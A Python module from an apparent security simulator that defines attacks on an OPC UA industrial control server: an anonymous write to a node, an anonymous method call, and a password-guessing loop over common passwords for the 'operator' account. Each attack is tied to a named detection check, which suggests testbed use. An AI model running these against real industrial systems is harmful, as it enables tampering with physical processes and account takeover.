"""Attacks on an OPC UA server: a stranger without a certificate writes, calls, and guesses passwords."""

import asyncio
from contextlib import suppress
from typing import Any, Final

from asyncua import ua
from asyncua.client.client import Client
from asyncua.ua.uaerrors import UaError

from simulator.attacks.attack import Attack, Field

_ua: Any = ua
"""Its annotations are narrower than what it takes."""

LONGEST_S: Final = 10.0
"""A server that does not answer by then is left."""
GUESSES: Final = ("admin", "operator", "password", "1234", "grid")
"""Passwords that are tried."""
WRONG: Final = (UaError, OSError, TimeoutError)


class OpcuaAttack(Attack):
    """Connects as nobody, and attempts `node` of the server. `answered` counts the attempts that it answered."""

    WAY = "opcua"

    def __init__(self, *, node: str = "i=2258") -> None:
        self.node, self.answered = node, 0

    async def run(self, on: Field) -> None:
        """Attempt it."""
        host, port = on.targets[self.WAY]
        async with asyncio.timeout(LONGEST_S):
            self.answered = await self._attempts(f"opc.tcp://{host}:{port}")

    async def _attempts(self, url: str) -> int:
        async with Client(url) as client:
            with suppress(UaError):
                await self._attempt(client)
            return 1

    async def _attempt(self, client: Any) -> None:
        raise NotImplementedError


class OpcuaWrite(OpcuaAttack):
    """Writes a value."""

    NAME = "opcua_write"
    CHECKS = ("unauthorised_write",)

    async def _attempt(self, client: Any) -> None:
        await client.get_node(self.node).write_value(_ua.DataValue(_ua.Variant(True, _ua.VariantType.Boolean)))


class OpcuaCall(OpcuaAttack):
    """Calls a method."""

    NAME = "opcua_call"
    CHECKS = ("unauthorised_write",)

    async def _attempt(self, client: Any) -> None:
        await client.get_node("i=2253").call_method(_ua.NodeId(11492), _ua.Variant(1, _ua.VariantType.UInt32))


class OpcuaGuess(OpcuaAttack):
    """Guesses the password of an operator."""

    NAME = "opcua_guess"
    CHECKS = ("session_security_drop",)

    async def _attempts(self, url: str) -> int:
        refused = 0
        for password in GUESSES:
            client = Client(url)
            client.set_user("operator")
            client.set_password(password)
            try:
                await client.connect()
            except WRONG:
                refused += 1
            else:
                await client.disconnect()
        return refused


ATTACKS: Final[tuple[type[OpcuaAttack], ...]] = (OpcuaWrite, OpcuaCall, OpcuaGuess)
